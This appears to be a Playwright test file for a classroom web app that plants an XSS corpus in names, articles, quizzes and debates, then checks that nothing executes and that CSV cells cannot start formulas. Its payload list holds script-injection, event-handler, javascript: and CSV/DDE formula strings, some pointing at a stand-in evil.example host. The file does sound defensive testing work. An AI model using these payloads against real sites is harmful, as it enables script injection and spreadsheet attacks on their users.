import type { Page } from '@playwright/test';
import { expect, logIn, test, uniqueName } from './fixtures';
import { DISGUISING_CHARACTERS } from '../src/lib/validation';
import { HttpClient } from './http';

/**
 * The XSS corpus (issue 8): the usual families pushed through every place text is stored and
 * shown, then every page that shows it opened in Chromium. Nothing may run (no dialog, no CSP
 * report, no injected element), and each payload must read as the text that was typed.
 */

// At most 80 characters each, the shortest field limit they go through (names).
const PAYLOADS = [
	`<script>alert('x01')</script>`,
	`<SCRIPT SRC=//evil.example/x02.js></SCRIPT>`,
	`<img src=x onerror=alert('x03')>`,
	`<svg onload=alert('x04')>`,
	`<svg><script>alert('x05')</script></svg>`,
	`<a href="javascript:alert('x06')">x06 link</a>`,
	`javascript:alert('x07')`,
	`<iframe srcdoc="<script>alert('x08')</script>">`,
	`"><script>alert('x09')</script>`,
	`'><img src=x onerror=alert('x10')>`,
	`{{7*7}} x11 {{constructor.constructor('alert(1)')()}}`,
	'${alert(`x12`)} ${7*7}',
	`</textarea><script>alert('x13')</script>`,
	`</title><script>alert('x14')</script>`,
	`<style>body{display:none}</style>x15`,
	`<div style="background:url(javascript:alert('x16'))">x16</div>`,
	`x17 \u202Egnp.exe right-to-left override`,
	`x18 zero\u200Dwidth\u200Cjoiners`,
	`<body onload=alert('x19')>`,
	`<input autofocus onfocus=alert('x20')>`,
	`<details open ontoggle=alert('x21')>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert('x22')>`,
	`<object data="javascript:alert('x23')">`,
	`<embed src="javascript:alert('x24')">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert('x25')">`,
	`<base href="//evil.example/">x26`,
	`%3Cscript%3Ealert('x27')%3C/script%3E`,
	`&lt;script&gt;alert('x28')&lt;/script&gt;`,
	`<scr<script>ipt>alert('x29')</scr</script>ipt>`,
	`" onmouseover="alert('x30')" x="`,
	`<video><source onerror=alert('x31')>`,
	`<marquee onstart=alert('x32')>x32</marquee>`,
	`[x33](javascript:alert(1)) **bold** <b>x33</b>`,
	`=HYPERLINK("http://evil.example","x")`,
	`@SUM(1+1)*cmd|' /C calc'!A0 x35`,
	`+x36 -2+3 <!-- x36 comment -->`,
	`<form action=javascript:alert('x37')><button>x37</button></form>`
];

/** Elements and attributes that exist only if markup from a payload was parsed. */
const INJECTED =
	'[onerror], [onload], [onfocus], [ontoggle], [onstart], [onmouseover], iframe[srcdoc], ' +
	'a[href^="javascript:"], object, embed, marquee, base[href*="evil"], ' +
	'script[src*="evil"], img[src="x"]';

/** A page that fails on any dialog and records console errors and uncaught exceptions. */
function watch(page: Page) {
	const problems: string[] = [];
	page.on('dialog', (dialog) => {
		problems.push(`dialog: ${dialog.message()}`);
		void dialog.dismiss();
	});
	page.on('pageerror', (err) => problems.push(`page error: ${err.message}`));
	page.on('console', (message) => {
		if (message.type() !== 'error') return;
		// An ordinary missing resource is not a script running.
		if (/Failed to load resource.*404/.test(message.text())) return;
		problems.push(`console: ${message.text()}`);
	});
	return problems;
}

/** Opens `path`, waits for the app to be live, and checks every text is shown and nothing ran. */
async function expectInert(page: Page, problems: string[], path: string, texts: string[]) {
	await page.goto(path);
	await page.waitForLoadState('networkidle');
	const main = page.locator('main');
	for (const text of texts) await expect(main, `${path} shows ${text}`).toContainText(text);
	expect(await page.locator(INJECTED).count(), `injected elements on ${path}`).toBe(0);
	// Give a deferred handler (autofocus, a timer) a moment to fire if anything slipped through.
	await page.waitForTimeout(200);
	expect(problems, `no script ran on ${path}`).toEqual([]);
}

/** RFC 4180 cells, enough for our own export (quoted fields, doubled quotes, CRLF). */
function csvCells(text: string): string[] {
	const cells: string[] = [];
	const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r?\n|$)/g;
	for (const match of text.replace(/^\uFEFF/, '').matchAll(pattern)) {
		if (match[0] === '') break;
		const raw = match[1]!;
		cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
	}
	return cells;
}

async function signIn(page: Page, username: string) {
	await logIn(page, username);
	await page.waitForURL((url) => !url.pathname.startsWith('/login'));
}

/** The article import drops invisible characters by design (src/lib/articles/normalise.ts). */
const imported = (text: string) => text.replace(/[\u00ad\u200b-\u200d\u2060\ufeff]/g, '');

const batches = (list: string[], size: number) =>
	Array.from({ length: Math.ceil(list.length / size) }, (_, i) =>
		list.slice(i * size, i * size + size)
	);

// One plain sentence the debate posts can quote as evidence.
const EVIDENCE = 'The council voted to expand the bus network across the whole city.';

/** Imports an article through the page as a teacher would, keeping every line; returns its id. */
async function importArticle(page: Page, source: { text: string } | { file: string }) {
	await page.goto('/articles/new');
	if ('text' in source) await page.getByLabel('Article text').fill(source.text);
	else {
		await page.getByLabel('Or upload a file').setInputFiles({
			name: 'evil.html',
			mimeType: 'text/html',
			buffer: Buffer.from(source.file)
		});
	}
	await page.getByRole('button', { name: 'Review the import' }).click();
	await expect(page.getByRole('button', { name: 'Save article' })).toBeVisible();
	for (const box of await page.locator('input[name="keep"]').all()) await box.check();
	const title = page.getByRole('textbox', { name: 'Title', exact: true });
	if (!(await title.inputValue())) await title.fill(PAYLOADS[0]!);
	await page.getByRole('button', { name: 'Save article' }).click();
	await page.waitForURL(/\/articles\/\d+\?imported=1/);
	return Number(/\/articles\/(\d+)/.exec(page.url())![1]);
}

const UPLOAD = `<!doctype html><html><head><title>Upload x90</title>
<script>alert('x91')</script><style>body{display:none}</style></head>
<body onload="alert('x92')"><article><h1>Upload x90</h1>
<p>${EVIDENCE}</p>
<p>First x93 <img src=x onerror="alert('x93')"> paragraph with a handler.</p>
<p>Second x94 <a href="javascript:alert('x94')">link</a> paragraph with a javascript link.</p>
<p>Third x95 <svg onload="alert('x95')"></svg> paragraph; <iframe srcdoc="<script>alert(1)</script>"></iframe></p>
<p>Escaped &lt;script&gt;alert('x96')&lt;/script&gt; stays text.</p>
<script>document.write('x97')</script></article></body></html>`;

test('no stored payload runs anywhere it is shown, and CSV cells cannot be formulas', async ({
	server,
	page,
	browser
}) => {
	test.setTimeout(120_000);
	const problems = watch(page);
	const teacherName = uniqueName('tx');
	const teacher = await HttpClient.open(server.url);
	await teacher.signUp(teacherName, 'teacher');
	const classId = await teacher.createClass('Payload Class');
	const code = await teacher.joinCodeOf(classId);

	// Display names: one student per payload, all in the class.
	const students: { client: HttpClient; username: string }[] = [];
	for (const batch of batches(PAYLOADS, 8)) {
		const made = await Promise.all(
			batch.map(async (displayName) => {
				const client = await HttpClient.open(server.url);
				const username = uniqueName('sx');
				const response = await client.post('/signup', {
					username,
					displayName,
					password: 'correct-horse-9',
					role: 'student'
				});
				// Direction overrides could disguise a name: refused with a message, not stored.
				if (DISGUISING_CHARACTERS.test(displayName)) {
					expect(response.status(), `sign up as ${displayName}`).toBe(400);
					expect(await response.text()).toContain('text-direction characters');
					return null;
				}
				expect(response.status(), `sign up as ${displayName}`).toBe(303);
				expect((await client.post('/join', { code })).status()).toBe(303);
				return { client, username };
			})
		);
		students.push(...made.filter((m) => m !== null));
	}
	// Class names.
	for (const name of PAYLOADS) {
		if (DISGUISING_CHARACTERS.test(name)) {
			expect((await teacher.post('/?/createClass', { name })).status()).toBe(400);
		} else await teacher.createClass(name);
	}

	// Articles: pasted (every payload a paragraph) and an uploaded HTML page full of scripts.
	await signIn(page, teacherName);
	const pasted = await importArticle(page, { text: [EVIDENCE, ...PAYLOADS].join('\n\n') });
	const uploaded = await importArticle(page, { file: UPLOAD });

	// Glossary: payloads as terms and as definitions.
	for (const [term, definition] of batches(PAYLOADS.slice(0, 12), 2)) {
		const response = await teacher.post(`/articles/${pasted}?/defineTerm`, {
			term: term!,
			definition: definition!
		});
		expect(response.status(), `glossary term ${term}`).toBe(200);
	}

	// Quiz questions written by hand: prompt, options and explanation.
	const created = await teacher.post(`/articles/${pasted}?/newQuiz`, {});
	const quizId = Number(/\/quizzes\/(\d+)/.exec(created.headers()['location'] ?? '')?.[1]);
	expect(quizId, 'a quiz to edit').toBeTruthy();
	for (const [prompt, a, b, explanation] of batches(PAYLOADS, 4)) {
		const response = await teacher.post(`/quizzes/${quizId}?/addQuestion`, {
			kind: 'multiple_choice',
			prompt: prompt!,
			options: [a ?? 'plain a', b ?? 'plain b'].join('\n'),
			correct: '1',
			explanation: explanation ?? '',
			points: '1',
			evidenceParagraph: '1',
			evidenceQuote: 'expand the bus network'
		});
		expect(response.status(), `question ${prompt}`).toBe(303);
	}

	// A debate: motion and sides, posts by six students, hidden with payload reasons.
	const debate = await teacher.post('/debates/new', {
		articleId: String(pasted),
		classId: String(classId),
		motion: PAYLOADS[8]!,
		sideFor: PAYLOADS[3]!,
		sideAgainst: PAYLOADS[6]!,
		sideAssignment: 'balance'
	});
	const debateId = Number(/\/debates\/(\d+)/.exec(debate.headers()['location'] ?? '')?.[1]);
	expect(debateId, 'a debate').toBeTruthy();
	const posters = students.slice(0, 6);
	for (const { client } of posters) await client.post(`/debates/${debateId}?/join`, {});
	// A done room action redirects back to the room (post/redirect/get): 303.
	expect((await teacher.post(`/debates/${debateId}?/advance`, {})).status()).toBe(303);
	const postIds: number[] = [];
	for (const [i, { client }] of posters.entries()) {
		const response = await client.post(`/debates/${debateId}?/post`, {
			kind: 'claim',
			claim: PAYLOADS[(i * 2) % PAYLOADS.length]!,
			paragraph: '1',
			quote: 'expand the bus network',
			reasoning: PAYLOADS[(i * 2 + 1) % PAYLOADS.length]!
		});
		expect(response.status(), `post ${i}`).toBe(303);
	}
	const room = await (await teacher.get(`/debates/${debateId}`)).text();
	for (const match of room.matchAll(/name="postId" value="(\d+)"/g)) postIds.push(Number(match[1]));
	const hidden = [...new Set(postIds)].slice(0, 3);
	for (const [i, postId] of hidden.entries()) {
		const response = await teacher.post(`/debates/${debateId}?/hide`, {
			postId: String(postId),
			reason: PAYLOADS[20 + i]!
		});
		expect(response.status(), `hide ${postId}`).toBe(303);
	}

	// Everything the teacher sees.
	// Names and class names with direction overrides were refused above, so they are not shown.
	const names = PAYLOADS.filter((p) => !DISGUISING_CHARACTERS.test(p));
	await expectInert(page, problems, '/', names);
	await expectInert(page, problems, `/classes/${classId}`, names);
	await expectInert(page, problems, `/classes/${classId}/gradebook`, names);
	await expectInert(page, problems, `/articles/${pasted}`, PAYLOADS.map(imported));
	await expectInert(page, problems, `/articles/${uploaded}`, [
		'First x93',
		'Second x94',
		'Third x95',
		`Escaped <script>alert('x96')</script> stays text.`
	]);
	await expectInert(page, problems, `/quizzes/${quizId}`, PAYLOADS);
	await expectInert(page, problems, `/debates/${debateId}`, [
		...PAYLOADS.slice(0, 12),
		...PAYLOADS.slice(20, 23)
	]);

	// The student's side: their class, the article, the room, and the stance note in Reflect.
	const studentContext = await browser.newContext();
	const studentPage = await studentContext.newPage();
	const studentProblems = watch(studentPage);
	await signIn(studentPage, posters[0]!.username);
	await expectInert(studentPage, studentProblems, `/classes/${classId}`, [PAYLOADS[8]!]);
	await expectInert(studentPage, studentProblems, `/articles/${pasted}`, PAYLOADS.map(imported));
	for (let i = 0; i < 3; i++) await teacher.post(`/debates/${debateId}?/advance`, {});
	const note = `</textarea><script>alert('note')</script>`;
	const voted = await posters[0]!.client.post(`/debates/${debateId}?/vote`, { stance: '2', note });
	expect(voted.status(), 'stance vote in Reflect').toBe(303);
	await expectInert(studentPage, studentProblems, `/debates/${debateId}`, [PAYLOADS[8]!]);
	await expect(
		studentPage.getByRole('textbox', { name: 'What changed your mind, or what kept it the same?' })
	).toHaveValue(note);
	await studentContext.close();

	// The gradebook CSV: no cell may start a formula.
	const csv = await (await teacher.get(`/classes/${classId}/gradebook.csv`)).text();
	const cells = csvCells(csv);
	expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
	expect(cells).toContain(`'=HYPERLINK("http://evil.example","x")`);
	for (const client of [teacher, ...students.map((s) => s.client)]) await client.dispose();
});
